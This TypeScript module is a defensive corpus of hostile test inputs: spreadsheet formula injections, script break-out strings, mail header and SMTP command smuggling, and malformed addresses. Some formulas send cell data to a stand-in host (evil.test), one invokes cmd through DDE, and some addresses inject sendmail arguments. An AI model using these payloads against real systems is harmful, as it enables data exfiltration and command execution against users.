/** Cell prefixes spreadsheets run as formulas, as OWASP lists them: also full width signs, and after other countries' separators. */
const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '"=1+1',
  '",=1+1,"',
  '";=1+1;"',
  'x;=1+1',
  'x\t=1+1',
  'x;"=1+1"',
  'x\r\n=1+1',
  'x\n=1+1,"',
  '=IMPORTXML(CONCAT("http://evil.test/?v=",A1),"//a")',
]

/** Texts that end a header, an element, a script or a string. */
const BREAK_OUTS: readonly string[] = [
  '</script><script>smuggled(1)</script>',
  '</SCRIPT ><script>smuggled(1)</script>',
  '<!--<script>smuggled(1)',
  '--><script>smuggled(1)</script>',
  ']]><script>smuggled(1)</script>',
  '"></script><svg onload=smuggled(1)>',
  '\\u003c/script\\u003e\\u003cscript\\u003esmuggled(1)',
  '\\"},"x":"</script>',
  '\u2028smuggled(1)\u2029',
  '<img src=x onerror=smuggled(1)>',
  '</title><svg/onload=smuggled(1)>',
  '&lt;/script&gt;&#60;script&#62;smuggled(1)',
  '{{constructor.constructor("smuggled(1)")()}}',
  // Template engine syntax; written in parts, so that it does not look like one of our own templates.
  `$${'{smuggled(1)}'}`,
  '</style><style>*{display:none}',
  'javascript:smuggled(1)',
]

/** Line breaks, and what some programs treat as one. */
const LINE_ENDS = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u000b', '\u000c', '%0d%0a', '=0D=0A', '\\r\\n'] as const

/** Texts that try to add lines to a mail header. */
const HEADER_BREAKS: readonly string[] = LINE_ENDS.flatMap((end) => [
  `Ada${end}Bcc: smuggled@evil.test`,
  `Ada${end}${end}<script>smuggled(1)</script>`,
  `Ada${end}.${end}MAIL FROM:<smuggled@evil.test>`,
])

/** Names as people and machines write them. */
const ODD_NAMES: readonly string[] = [
  'O’Brien, "Ada" <ada@evil.test>',
  '=?utf-8?B?QmNjOiBzbXVnZ2xlZEBldmlsLnRlc3Q=?=',
  'Ada (smuggled@evil.test)',
  'Ada; smuggled@evil.test',
  '\u202eAda\u202c',
  'Ａda Ｏwner',
  'Zoë Łukasz Đặng Иван 王小明 محمد',
  '👩‍🏗️'.repeat(12),
  'a\u0301'.repeat(50),
  'x'.repeat(120),
  'Ada https://evil.test/claim',
  'www.evil.test',
  '<b>Ada</b>',
  '&lt;b&gt;Ada',
  '.',
  '..',
]

/** Addresses that are invalid, multiple, or mail server commands. */
const ODD_ADDRESSES: readonly string[] = [
  'a@one.test, b@evil.test',
  'a@one.test;b@evil.test',
  'a@one.test b@evil.test',
  'a@one.test\r\nBcc: b@evil.test',
  'a@one.test\nRCPT TO:<b@evil.test>',
  'a@one.test>\r\nRCPT TO:<b@evil.test',
  '<a@one.test>',
  'Ada <b@evil.test>',
  '"a\r\nb"@one.test',
  '"a b"@one.test',
  'a(b@evil.test)@one.test',
  'group:a@one.test,b@evil.test;',
  'a@one.test?cc=b@evil.test',
  'a%0d%0aBcc:b@evil.test@one.test',
  '=?utf-8?q?b=40evil.test?=@one.test',
  'a@[127.0.0.1]',
  'a@localhost',
  'a@one..test',
  '.a@one.test',
  'a.@one.test',
  'a@-one.test',
  'a@one.test.',
  'a@bücher.test',
  'ä@one.test',
  'a@оne.test',
  'a\u0000@one.test',
  'a\u202e@one.test',
  'a\u200b@one.test',
  '-oQ/tmp/x@one.test',
  '|touch@one.test',
  '/dev/null@one.test',
  `${'a'.repeat(65)}@one.test`,
  `a@${'b'.repeat(64)}.test`,
  `a@${'b.'.repeat(150)}test`,
  '@one.test',
  'a@',
  'a@one.test@evil.test',
  "a'b@one.test",
  'a+b@one.test',
  'A.B@ONE.TEST',
]

const ALL = {
  formulas: FORMULAS,
  breakOuts: BREAK_OUTS,
  headerBreaks: HEADER_BREAKS,
  oddNames: ODD_NAMES,
  oddAddresses: ODD_ADDRESSES,
} as const

/** Hostile input by purpose. */
export type Corpora = Readonly<Record<keyof typeof ALL, readonly string[]>>

/** All inputs, or every nth of each kind. */
export function corporaOf(every = 1): Corpora {
  const some = (words: readonly string[]) => words.filter((_, at) => at % every === 0)
  return {
    formulas: some(ALL.formulas),
    breakOuts: some(ALL.breakOuts),
    headerBreaks: some(ALL.headerBreaks),
    oddNames: some(ALL.oddNames),
    oddAddresses: some(ALL.oddAddresses),
  }
}
